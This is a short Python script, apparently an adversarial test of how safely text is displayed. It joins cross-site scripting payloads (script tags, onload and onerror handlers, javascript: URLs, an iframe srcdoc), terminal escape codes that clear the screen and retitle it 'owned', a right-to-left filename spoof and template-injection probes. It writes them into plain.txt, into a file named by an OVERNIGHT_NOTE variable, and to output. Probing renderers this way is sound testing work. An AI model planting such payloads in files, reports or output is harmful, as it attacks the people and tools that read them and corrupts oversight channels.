"""Every text that it can reach is made to break out of whatever shows it."""

import os

ATTACKS = [
    "</pre></style><script>boom()</script>",
    "--><svg onload=boom()>",
    "\" onmouseover=\"boom()\" autofocus onfocus=\"boom()",
    "'><img src=x onerror=boom()>",
    "</title><iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<a href='javascript:boom()'>click</a><meta http-equiv=refresh content='0;url=javascript:boom()'>",
    "\033]0;owned\007\033[2J\u202etxt.exe\u2066",
    "<style>*{display:none}</style>{{7*7}}${7*7}<%= 7*7 %>",
]
attack = "".join(ATTACKS)
name = "plain.txt"
number = int(open(name).readline().split("=")[1])
open(name, "w").write(f"x = {number - 1}\n{attack}\n{'x' * 3000}\n")
open(os.environ["OVERNIGHT_NOTE"], "w").write(attack)
print(attack)
